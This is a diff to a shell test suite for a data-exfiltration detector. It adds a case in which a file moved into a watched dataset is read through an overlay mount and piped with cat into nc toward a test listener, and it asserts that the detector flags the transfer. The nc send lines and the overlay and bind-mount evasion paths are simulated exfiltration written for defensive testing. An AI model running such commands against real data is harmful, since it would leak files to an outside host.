@@ -56,9 +56,17 @@ pid_of() { # name: what the user namespace wrote into $T/run
 
 agent_start "$T" "$T/inv.json" --flush-ms 200 || exit 1
 
+# Moved into the dataset after the start (a rename opens nothing): first opened through the overlay.
+head -c 4444 /dev/urandom >"$T/late.bin"
+chmod 644 "$T/late.bin"
+mv "$T/late.bin" "$T/ds/late.bin" &
+MV_PID=$!
+wait $MV_PID
+
 listen "$EXT" tcp 10.199.21.2 9201 "$T/recv1" || exit 1
 listen "$EXT" tcp 10.199.21.2 9202 "$T/recv2" || exit 1
 listen "$EXT" tcp 10.199.21.2 9203 "$T/recv3" || exit 1
+listen "$EXT" tcp 10.199.21.2 9205 "$T/recv5" || exit 1
 # As nobody, in a user and mount namespace of its own: an overlay whose lower layer is the
 # dataset, a read through it sent off; an append (copy-up), then the upper copy sent off; a
 # bind mount of the dataset, read and sent off. Each process says its pid before it execs.
@@ -72,6 +80,8 @@ sh -c 'echo \$\$ >$R/cat1.pid; exec /usr/bin/cat $T/ovl/a.bin' |
 sh -c 'echo \$\$ >$R/append.pid; echo appended >>$T/ovl/b.bin'
 sh -c 'echo \$\$ >$R/cat2.pid; exec /usr/bin/cat $T/ovl/b.bin' |
 	sh -c 'echo \$\$ >$R/nc2.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9202'
+sh -c 'echo \$\$ >$R/cat5.pid; exec /usr/bin/cat $T/ovl/late.bin' |
+	sh -c 'echo \$\$ >$R/nc5.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9205'
 mount --bind $T/ds $T/bnd
 sh -c 'echo \$\$ >$R/cat3.pid; exec /usr/bin/cat $T/bnd/c.bin' |
 	sh -c 'echo \$\$ >$R/nc3.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9203'
@@ -119,8 +129,11 @@ test_overlay_read_exfiltration() {
 test_copy_up_is_derived_not_tamper() {
 	ASSERT_EQ "$(stat -c %s "$T/ds/b.bin")" 20000 "the lower dataset file is unchanged"
 	ASSERT_EQ "$(stat -c %s "$T/up/b.bin")" 20009 "the upper copy has the append"
-	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=dataset_tamper)" 0 \
+	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=dataset_tamper \
+		--where evidences.0.file.path="$T/ds/b.bin")" 0 \
 		"changing the copy is not tampering with the dataset"
+	ASSERT_EQ "$($EVQ "$FI" values evidences.0.process.pid --where finding_info.types.0=dataset_tamper)" \
+		"$MV_PID" "the one change to the dataset is the move into it"
 	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid="$(pid_of append)")" 0 \
 		"the appender read nothing classified"
 }
@@ -139,6 +152,17 @@ test_upper_copy_read_directly() {
 	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.bytes)" 20009 "finding bytes"
 	ASSERT_EQ "$(finding exfiltration $NC4_PID resources.0.uid)" faces "dataset"
 	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.via.hop)" read "tainted by reading the copy"
+}
+
+test_new_file_classified_through_overlay() {
+	local cat5 nc5
+	cat5=$(pid_of cat5)
+	nc5=$(pid_of nc5)
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="$cat5")" 4444 "bytes read"
+	ASSERT_EQ "$(event_of "$cat5" unmapped.dataset)" faces "dataset"
+	ASSERT_EQ "$(event_of "$cat5" file.path)" "$T/ds/late.bin" "found below the dataset directory"
+	ASSERT_EQ "$(stat -c %s "$T/recv5")" 4444 "bytes received by the external host"
+	ASSERT_EQ "$(finding exfiltration "$nc5" unmapped.bytes)" 4444 "finding bytes"
 }
 
 test_bind_mount_in_user_namespace() {
